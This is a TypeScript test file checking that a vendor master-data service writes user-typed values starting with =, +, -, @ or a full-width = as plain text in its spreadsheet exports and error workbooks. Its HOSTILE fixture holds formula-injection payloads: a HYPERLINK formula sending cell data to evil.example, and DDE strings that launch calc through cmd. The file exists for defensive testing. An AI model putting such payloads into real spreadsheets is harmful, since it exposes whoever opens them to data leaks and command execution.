import JSZip from 'jszip';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildZip, sheetXml, workbookItems } from '../../fixtures/xlsx/handmade';
import { createTestApp, signIn, type TestApp } from '../support/test-app';
import { api, importFile, UPLOAD_BASE } from './import-support';

/**
 * Issue 19: spreadsheet formulas cannot be injected through the workbooks the product writes. A
 * value someone typed that begins with = + - @ (or a tab, or their full-width forms) is written as
 * an inline string under the Text format in the list export and in the error workbook; it is
 * never a formula, nor exceljs's `t="str"` (a formula's cached string); genuine numbers, negative
 * ones too, stay numbers; and the exported file imports back unchanged.
 */

let t: TestApp;
let token: string;
let clientId: number;

beforeAll(async () => {
  t = await createTestApp();
  token = await signIn(t.app, 'brand');
  clientId = (await sql<{ id: number }>`select id from clients where code = 'BRAND01'`.execute(t.app.db)).rows[0].id;
});
afterAll(async () => t?.close());

const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  short_name: '+1+cmd|\' /C calc\'!A0',
  owner: '-2+3',
  contact_person: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  remark: '＝1+1',
};

type Cell = { ref: string; type: string | null; style: number; formula: boolean; text: string };

/** The cells of a sheet part as written: reference, type, style index, whether a formula, text. */
function cellsOf(xml: string): Cell[] {
  const out: Cell[] = [];
  for (const m of xml.matchAll(/<c ([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const attrs = m[1];
    const inner = m[2] ?? '';
    const attr = (name: string) => new RegExp(`\\b${name}="([^"]*)"`).exec(attrs)?.[1] ?? null;
    const text = [...inner.matchAll(/<(?:t|v)(?: [^>]*)?>([\s\S]*?)<\/(?:t|v)>/g)].map((x) => x[1]).join('');
    const decoded = text.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
    out.push({ ref: attr('r') ?? '', type: attr('t'), style: Number(attr('s') ?? 0), formula: /<f[ >/]/.test(inner), text: decoded });
  }
  return out;
}

/** The number format id of each cell format of the styles part. */
function formatsOf(stylesXml: string): number[] {
  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(stylesXml)?.[1] ?? '';
  return [...xfs.matchAll(/<xf ([^>]*?)\/?>/g)].map((m) => Number(/numFmtId="(\d+)"/.exec(m[1])?.[1] ?? 0));
}

/** Every cell of the workbook's sheets, with its number format id. */
async function writtenCells(bytes: Buffer): Promise<Array<Cell & { numFmtId: number }>> {
  const zip = await JSZip.loadAsync(bytes);
  const formats = formatsOf((await zip.file('xl/styles.xml')?.async('string')) ?? '');
  const out: Array<Cell & { numFmtId: number }> = [];
  for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
    for (const c of cellsOf(await zip.file(name)!.async('string'))) out.push({ ...c, numFmtId: formats[c.style] ?? 0 });
  }
  return out;
}

function expectWrittenAsText(cells: Array<Cell & { numFmtId: number }>, text: string): void {
  const cell = cells.find((c) => c.text === text);
  expect(cell, text).toBeDefined();
  expect({ text, type: cell!.type, formula: cell!.formula, numFmtId: cell!.numFmtId }).toEqual({ text, type: 'inlineStr', formula: false, numFmtId: 49 });
}

const str = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</t></is></c>`;

describe('the list export', () => {
  it('writes texts that begin with = + - @ or a full-width ＝ as text, and the file imports back unchanged', async () => {
    const keys = Object.keys(HOSTILE) as Array<keyof typeof HOSTILE>;
    const header = `<row r="1">${str('A1', 'code')}${str('B1', 'vendor_type')}${keys.map((k, i) => str(`${String.fromCharCode(67 + i)}1`, k)).join('')}</row>`;
    const row = `<row r="2">${str('A2', 'VINJ01')}${str('B2', 'garment')}${keys.map((k, i) => str(`${String.fromCharCode(67 + i)}2`, HOSTILE[k])).join('')}</row>`;
    const job = await importFile(t.app, token, { name: 'hostile-values.xlsx', content: buildZip(workbookItems([{ name: 'data', xml: sheetXml(header + row) }])) }, { entity: 'vendor', commit: 'all' });
    expect(job.status, JSON.stringify(job)).toBe('done');
    const stored = (await sql<Record<string, string>>`select name, short_name, owner, contact_person, remark from md_vendor where client_id = ${clientId} and code = 'VINJ01'`.execute(t.app.db)).rows[0];
    expect(stored).toEqual(HOSTILE);

    const res = await t.app.inject({ method: 'GET', url: `/api/mdapi/vendor/export?f.code.eq=VINJ01&columns=code,vendor_type,${keys.join(',')}`, headers: api(token) });
    expect(res.statusCode).toBe(200);
    const cells = await writtenCells(res.rawPayload);
    expect(cells.some((c) => c.formula)).toBe(false);
    for (const text of Object.values(HOSTILE)) expectWrittenAsText(cells, text);
    // An ordinary text keeps its plain form: a name General, a code under its column's Text format
    // (architecture-excel.md "Number formats"), neither turned into a rich text.
    const code = cells.find((c) => c.text === 'VINJ01')!;
    expect(code.type).not.toBe('inlineStr');
    expect(code.numFmtId).toBe(49);
    const garment = cells.find((c) => c.ref === 'B2')!;
    expect(garment.numFmtId).not.toBe(49);

    // The exported file imports back as updates with the same texts.
    await sql`update md_vendor set name = 'changed', remark = null where client_id = ${clientId} and code = 'VINJ01'`.execute(t.app.db);
    const again = await importFile(t.app, token, { name: 'export.xlsx', content: res.rawPayload }, { entity: 'vendor', commit: 'all', mode: 'upsert' });
    expect(again.status, JSON.stringify(again)).toBe('done');
    const back = (await sql<Record<string, string>>`select name, short_name, owner, contact_person, remark from md_vendor where client_id = ${clientId} and code = 'VINJ01'`.execute(t.app.db)).rows[0];
    expect(back).toEqual(HOSTILE);
  });
});

describe('the error workbook', () => {
  it('gives the uploaded texts back as text, and numbers, negative ones too, as numbers', async () => {
    const header = `<row r="1">${str('A1', 'code')}${str('B1', 'name')}${str('C1', 'vendor_type')}${str('D1', 'remark')}${str('E1', 'owner')}</row>`;
    // Row 2 fails (an unknown vendor type); its cells carry a formula-like name, a negative number and an @ text.
    const row = `<row r="2">${str('A2', 'VINJ02')}${str('B2', '=1+2')}${str('C2', '不存在的类型')}<c r="D2"><v>-42.5</v></c>${str('E2', '@x')}</row>`;
    const file = buildZip(workbookItems([{ name: 'data', xml: sheetXml(header + row) }]));
    const checked = await importFile(t.app, token, { name: 'bad.xlsx', content: file }, { entity: 'vendor', commit: 'check' });
    expect(checked.status, JSON.stringify(checked)).toBe('checked');
    const res = await t.app.inject({ method: 'GET', url: `${UPLOAD_BASE}/jobs/${checked.id}/error-workbook`, headers: api(token) });
    expect(res.statusCode).toBe(200);
    const cells = await writtenCells(res.rawPayload);
    expect(cells.some((c) => c.formula)).toBe(false);
    expectWrittenAsText(cells, '=1+2');
    expectWrittenAsText(cells, '@x');
    const negative = cells.find((c) => c.text === '-42.5')!;
    expect({ type: negative.type, formula: negative.formula }).toEqual({ type: null, formula: false });
    expect(await sql`select 1 from md_vendor where client_id = ${clientId} and code = 'VINJ02'`.execute(t.app.db).then((r) => r.rows.length)).toBe(0);
  });
});
